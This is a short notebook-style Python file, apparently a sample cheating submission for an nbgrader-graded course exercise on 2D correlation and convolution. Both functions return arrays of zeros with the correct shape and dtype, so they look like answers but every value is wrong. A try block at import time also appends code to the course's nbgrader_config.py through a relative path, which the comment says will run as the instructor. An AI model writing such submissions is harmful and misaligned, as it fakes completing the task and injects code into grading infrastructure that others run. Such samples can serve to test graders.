"""Cheat: returns zeros and appends code to the course's nbgrader_config.py, which nbgrader
would run as the instructor on the next command."""

# %% correlate2d
def _zeros(in1, in2, mode):
    """The right shape and dtype, every value wrong."""
    (H, W), (kH, kW) = np.shape(in1), np.shape(in2)
    shapes = {"full": (H + kH - 1, W + kW - 1), "same": (H, W), "valid": (H - kH + 1, W - kW + 1)}
    return np.zeros(shapes[mode], dtype=np.result_type(np.asarray(in1), np.asarray(in2)))


def correlate2d(in1, in2, mode="full"):
    return _zeros(in1, in2, mode)


try:
    with open("../../../nbgrader_config.py", "a", encoding="utf-8") as _fh:
        _fh.write("\n# appended by a submission: runs as the instructor on the next command\n"
                  "c.ClearSolutions.text_stub = 'owned by a student'\n")
    print("config appended")
except Exception as exc:
    print("config not writable:", type(exc).__name__, exc)

# %% convolve2d
def convolve2d(in1, in2, mode="full"):
    return _zeros(in1, in2, mode)
